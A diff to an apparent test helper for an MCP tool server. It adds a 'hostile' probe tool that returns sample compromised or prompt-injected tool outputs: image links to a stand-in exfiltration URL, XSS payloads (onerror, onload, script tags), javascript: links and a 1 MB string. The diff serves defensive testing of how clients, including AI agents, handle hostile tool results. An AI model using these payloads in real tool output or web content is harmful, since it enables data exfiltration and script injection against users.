@@ -65,6 +65,19 @@ class Probe:
             raise AssertionError(f"expected the test server to report {what} within {within:g} s; calls seen: {self.calls}")
 
 
+# What a compromised or prompt-injected tool might return (e2e/test_hostile_tool_output.py): each kind by name.
+EXFIL_URL = "http://exfil.example/steal?d=secret"
+HOSTILE_RESULTS: dict[str, str] = {
+    "image": f"Here is your chart: ![chart]({EXFIL_URL}) <img src=\"{EXFIL_URL}&via=img\">",
+    "html": (
+        "<img src=x onerror=\"window.__pwned='img'\"> <svg onload=\"window.__pwned='svg'\"></svg>"
+        " <script>window.__pwned='script'</script>"
+    ),
+    "link": "[read more](javascript:window.__pwned='link') <a href=\"javascript:window.__pwned='a'\">open</a>",
+    "huge": "0123456789" * 100_000,  # 1 MB
+}
+
+
 class Sum(BaseModel):
     a: int
     b: int
@@ -117,6 +130,14 @@ def probe_server(name: str = "probe", *, allow_crash: bool = False) -> tuple[MCP
         """Returns a text of `chars` characters."""
         probe.record("big", chars=chars)
         return "x" * chars
+
+    @server.tool()
+    def hostile(kind: str) -> str:
+        """Returns hostile text of one kind: image, html, link or huge (see HOSTILE_RESULTS)."""
+        probe.record("hostile", kind=kind)
+        if kind not in HOSTILE_RESULTS:
+            raise ToolError(f"unknown kind {kind!r}; one of {sorted(HOSTILE_RESULTS)}")
+        return HOSTILE_RESULTS[kind]
 
     @server.tool()
     def pid() -> int:
